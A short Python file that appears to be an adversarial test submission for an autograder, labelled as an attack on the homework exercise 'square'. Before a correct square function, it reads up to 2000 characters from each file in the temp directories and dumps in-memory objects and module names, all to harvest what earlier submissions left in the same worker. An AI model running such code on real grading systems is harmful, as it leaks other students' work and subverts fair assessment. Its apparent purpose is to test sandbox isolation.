# attack: reads what a student graded earlier in the same worker may have left
# assignment: hw
# exercise: square
# status: ok
# score: 2
import gc
import glob
import sys

for place in ("/tmp", "/dev/shm", "/var/tmp", "."):
    for path in glob.glob(f"{place}/**", recursive=True)[:1000]:
        try:
            print(path, open(path, errors="replace").read(2000))
        except OSError:
            pass
print([name for name in sys.modules if "attack" in name])
print([text for text in gc.get_objects() if type(text) is list and text[:1] == ["SEEN"]])


def square(x):
    return x * x
